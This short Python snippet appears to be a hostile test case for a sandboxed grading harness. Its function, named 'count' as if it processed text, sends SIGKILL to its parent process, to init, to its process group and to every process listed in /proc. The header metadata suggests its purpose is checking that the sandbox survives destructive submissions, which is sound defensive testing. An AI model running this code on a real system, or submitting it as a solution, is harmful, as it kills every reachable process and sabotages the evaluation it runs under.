# SIGKILL to its parent, its group, its session, and all processes that it may signal.
# stock: no score; those after it: no score
# solves: scale, centre
# needs: sandbox
# %% count
def count(text):
    import os, signal

    for victim in (os.getppid(), 1, -1, 0, *(int(p) for p in os.listdir("/proc") if p.isdigit())):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
